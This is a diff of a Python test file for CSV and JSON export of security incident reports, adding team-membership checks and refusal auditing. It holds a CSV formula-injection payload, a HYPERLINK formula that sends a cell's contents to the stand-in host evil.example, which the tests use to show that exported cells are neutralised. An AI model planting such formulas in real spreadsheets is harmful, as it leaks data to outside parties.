@@ -11,12 +11,13 @@ from datetime import timedelta
 
 import pytest
 
-from adapters.cli import build_parser, run_command
 from adapters.cli.export import guard_formula, report_columns
 from adapters.cli.reports import export_reports
 from bot.ports import UnitOfWorkFactory
-from bot.report import Contact, Evidence, EvidenceFile, Report
-from tests.factories import CREATED_AT, Clock, make_report
+from bot.report import Contact, Evidence, EvidenceFile, LinkKind, Outcome, Report, ReportLink
+from bot.triage import NotAllowed
+from tests.factories import CREATED_AT, make_report
+from tests.triage.support import MEMBER, OUTSIDER, refusals, stored
 
 INJECTION = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
 
@@ -28,16 +29,9 @@ async def store_all(uow_factory: UnitOfWorkFactory, reports: list[Report]) -> No
         await uow.commit()
 
 
-async def stored(uow_factory: UnitOfWorkFactory, reference: str) -> Report:
-    async with uow_factory() as uow:
-        report = await uow.reports.get(reference)
-    assert report is not None
-    return report
-
-
-async def export(uow_factory, fmt: str) -> str:
+async def export(triage, fmt: str) -> str:
     out = io.StringIO(newline="")
-    assert await export_reports(uow_factory, fmt, out) == 0
+    assert await export_reports(triage, MEMBER, fmt, out) == 0
     return out.getvalue()
 
 
@@ -60,14 +54,15 @@ async def two_reports(uow_factory) -> list[Report]:
                 ]
             ),
             what_happened="\tTab first\r\nthen a new line",
+            routed_to=["file"],
         ),
     ]
     await store_all(uow_factory, reports)
     return reports
 
 
-async def test_json_round_trips_to_the_stored_reports_oldest_first(uow_factory, two_reports):
-    text = await export(uow_factory, "json")
+async def test_json_round_trips_to_the_stored_reports_oldest_first(uow_factory, triage, two_reports):
+    text = await export(triage, "json")
 
     documents = json.loads(text)
     exported = [Report.model_validate(document) for document in documents]
@@ -81,12 +76,24 @@ async def test_json_round_trips_to_the_stored_reports_oldest_first(uow_factory, 
     assert text.startswith('[\n  {\n    "schema_version": 1,')
 
 
-async def test_json_of_nothing_is_an_empty_list(uow_factory):
-    assert json.loads(await export(uow_factory, "json")) == []
+async def test_json_round_trips_links_routing_and_handling(uow_factory, triage, two_reports):
+    newer, older = two_reports
+    await triage.link(newer.reference, older.reference, LinkKind.DUPLICATE, MEMBER)
+    await triage.close(older.reference, Outcome.DUPLICATE, MEMBER)
+
+    exported = [Report.model_validate(d) for d in json.loads(await export(triage, "json"))]
+
+    assert exported == [await stored(uow_factory, r.reference) for r in (older, newer)]
+    assert exported[0].links == [ReportLink(reference=newer.reference, kind=LinkKind.DUPLICATE)]
+    assert (exported[0].outcome, exported[0].routed_to) == (Outcome.DUPLICATE, ["file"])
 
 
-async def test_csv_has_one_row_per_report_and_one_column_per_field(uow_factory, two_reports):
-    rows = list(csv.DictReader(io.StringIO(await export(uow_factory, "csv"), newline="")))
+async def test_json_of_nothing_is_an_empty_list(triage):
+    assert json.loads(await export(triage, "json")) == []
+
+
+async def test_csv_has_one_row_per_report_and_one_column_per_field(triage, two_reports):
+    rows = list(csv.DictReader(io.StringIO(await export(triage, "csv"), newline="")))
 
     newer, older = two_reports
     assert [row["reference"] for row in rows] == [older.reference, newer.reference]
@@ -102,8 +109,8 @@ async def test_csv_has_one_row_per_report_and_one_column_per_field(uow_factory, 
     assert rows[1]["what_happened"] == "Zweiter Bericht: ünïcödé ✓"
 
 
-async def test_csv_cells_cannot_become_formulas(uow_factory, two_reports):
-    row = next(csv.DictReader(io.StringIO(await export(uow_factory, "csv"), newline="")))
+async def test_csv_cells_cannot_become_formulas(triage, two_reports):
+    row = next(csv.DictReader(io.StringIO(await export(triage, "csv"), newline="")))
 
     assert row["contact.name_used"] == "'" + INJECTION
     assert row["contact.organisation"] == "'@SUM(1+1)"
@@ -129,22 +136,67 @@ def test_guard_formula(cell, guarded):
     assert guard_formula(cell) == guarded
 
 
-async def test_csv_of_nothing_is_just_the_header(uow_factory):
-    text = await export(uow_factory, "csv")
+async def test_csv_of_nothing_is_just_the_header(triage):
+    text = await export(triage, "csv")
     assert text == ",".join(report_columns()) + "\r\n"
 
 
-async def test_export_to_a_file_is_private(uow_factory, two_reports, tmp_path):
+async def test_export_to_a_file_is_private(run, two_reports, tmp_path):
     target = tmp_path / "reports.csv"
     target.write_text("old and world-readable")
     target.chmod(0o644)
-    out, err = io.StringIO(), io.StringIO()
-    args = build_parser().parse_args(["reports", "export", "--format", "csv", "--output", str(target)])
 
-    assert await run_command(args, uow_factory, Clock(), out, err) == 0
+    code, out, err = await run("reports", "export", "--format", "csv", "--output", str(target))
 
-    assert out.getvalue() == ""
-    assert err.getvalue() == f"Exported to {target}.\n"
+    assert (code, out) == (0, "")
+    assert err == f"Exported to {target}.\n"
     assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
     with target.open(newline="", encoding="utf-8") as file:
         assert len(list(csv.DictReader(file))) == 2
+
+
+async def test_export_to_the_screen_is_json_oldest_first(run, two_reports):
+    code, out, err = await run("reports", "export", "--format", "json")
+
+    assert (code, err) == (0, "")
+    newer, older = two_reports
+    assert [d["reference"] for d in json.loads(out)] == [older.reference, newer.reference]
+
+
+async def test_export_reports_refuses_an_outsider(triage, two_reports, engine):
+    out = io.StringIO()
+    with pytest.raises(NotAllowed):
+        await export_reports(triage, OUTSIDER, "json", out)
+    assert out.getvalue() == ""
+    assert [r.actor for r in await refusals(engine)] == ["cli:mallory"]
+
+
+async def test_an_outsider_gets_no_export_file(run, two_reports, engine, tmp_path):
+    target = tmp_path / "reports.json"
+
+    code, out, err = await run(
+        "reports", "export", "--format", "json", "--output", str(target), actor=OUTSIDER
+    )
+
+    assert (code, out) == (1, "")
+    assert err.startswith("cli:mallory is not a member of the security team")
+    assert not target.exists()  # refused before the file is created
+    [refusal] = await refusals(engine)
+    assert (refusal.actor, refusal.report_reference, refusal.detail) == (
+        "cli:mallory",
+        None,
+        {"attempted": "export", "reason": "not_team"},
+    )
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="adapters/cli/dispatch.py _reports(): an export to the screen is checked only through "
+    "triage.list_reports, so a refused export is audited as attempted='list', while the same "
+    "export with --output is audited as 'export'",
+)
+async def test_a_refused_export_to_the_screen_is_audited_as_an_export(run, two_reports, engine):
+    code, _, _ = await run("reports", "export", "--format", "csv", actor=OUTSIDER)
+
+    assert code == 1
+    assert [r.detail["attempted"] for r in await refusals(engine)] == ["export"]
